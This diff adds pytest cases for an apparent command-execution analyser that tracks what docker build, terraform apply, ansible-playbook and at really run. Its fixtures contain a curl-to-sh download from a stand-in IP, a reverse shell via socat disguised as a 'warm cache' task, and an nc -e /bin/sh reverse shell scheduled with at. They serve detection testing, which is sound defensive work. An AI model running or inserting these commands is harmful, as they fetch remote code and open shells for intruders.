@@ -722,3 +722,67 @@ def test_downloaded_script_of_unknown_content_run_by_a_shell_is_an_unresolved_ex
     assert "https://get.example.net/install.sh" in unknown[0].reasons[0]
     _, f = flow("curl -fsSL -o /tmp/i.sh https://get.example.net/install.sh", "sha256sum /tmp/i.sh")
     assert f.events == ()
+
+
+# --- docker build, terraform, ansible, at ----------------------------------------------------------
+
+DOCKERFILE = ("FROM python:3.12-slim\nWORKDIR /app\nCOPY . .\nRUN pip install -r requirements.txt\n"
+              "RUN curl -fsSL http://198.51.100.60/setup.sh | sh\nCMD [\"python\", \"app.py\"]\n")
+
+
+def test_docker_build_runs_the_dockerfile_run_lines() -> None:
+    _, f = flow(("file", "Dockerfile", DOCKERFILE), "docker build -t app .")
+    assert {"pip", "curl"} <= set(names(f)) and "python" not in names(f)
+    curl = next(e for e in execs(f) if e.name == "curl")
+    assert DOCKERFILE[curl.source.start:curl.source.end].startswith("curl -fsSL")
+    _, f = flow(("file", "docker/Dockerfile.gpu", DOCKERFILE), "docker buildx build -f docker/Dockerfile.gpu .")
+    assert "curl" in names(f)
+
+
+def test_dockerfile_not_built() -> None:
+    events, f = flow(("file", "Dockerfile", DOCKERFILE), "docker run --rm python:3.12 python -V", "hadolint Dockerfile")
+    assert f.events == () and f.mentions == (write_index(events, "Dockerfile"),)
+
+
+TF = ('provider "aws" {\n  region = "us-east-1"\n}\n\nresource "aws_instance" "trainer" {\n'
+      '  ami           = "ami-0abcdef1234567890"\n  instance_type = "p4d.24xlarge"\n  count         = 4\n'
+      '  root_block_device {\n    volume_size = 500\n  }\n}\n\nresource "aws_s3_bucket" "logs" {\n'
+      '  bucket = "team-logs"\n}\n')
+
+
+def test_terraform_apply_creates_its_resources() -> None:
+    _, f = flow(("file", "infra/main.tf", TF), "terraform -chdir=infra apply -auto-approve")
+    calls = [e for e in f.events if isinstance(e, CloudCall)]
+    run = next(c for c in calls if c.operation == "run_instances")
+    assert (run.provider, run.service) == ("aws", "ec2")
+    assert ("instance_type", "p4d.24xlarge") in run.parameters and ("count", "4") in run.parameters
+    assert any(c.operation == "aws_s3_bucket" for c in calls)
+
+
+@pytest.mark.parametrize("run", ["terraform plan", "terraform validate", "terraform apply -destroy",
+                                 "terraform -chdir=other apply"])
+def test_terraform_without_apply_creates_nothing(run: str) -> None:
+    _, f = flow(("file", "infra/main.tf", TF), run)
+    assert f.events == ()
+
+
+PLAYBOOK = ("- hosts: all\n  become: true\n  tasks:\n  - name: deps\n    apt: {name: curl}\n"
+            "  - name: warm cache\n    shell: nohup socat TCP:198.51.100.61:443 EXEC:/bin/sh &\n"
+            "  - block:\n    - command: {cmd: 'id'}\n  - script: files/boot.sh\n")
+
+
+def test_ansible_playbook_tasks_run() -> None:
+    _, f = flow(("file", "ops/site.yml", PLAYBOOK), ("file", "ops/files/boot.sh", SCRIPT),
+                "ansible-playbook -i hosts ops/site.yml")
+    assert {"socat", "id", "nc"} <= set(names(f))
+    _, f = flow(("file", "ops/site.yml", PLAYBOOK), "ansible-lint ops/site.yml")
+    assert f.events == ()
+
+
+def test_at_job_file_and_stdin() -> None:
+    _, f = flow(("file", "job.sh", SCRIPT), "at now + 5 minutes -f job.sh")
+    assert "nc" in names(f)
+    _, f = flow("echo 'nc 203.0.113.5 4444 -e /bin/sh' | at now + 1 minute")
+    assert "nc" in names(f)
+    _, f = flow(("file", "job.sh", SCRIPT), "atq")
+    assert f.events == ()
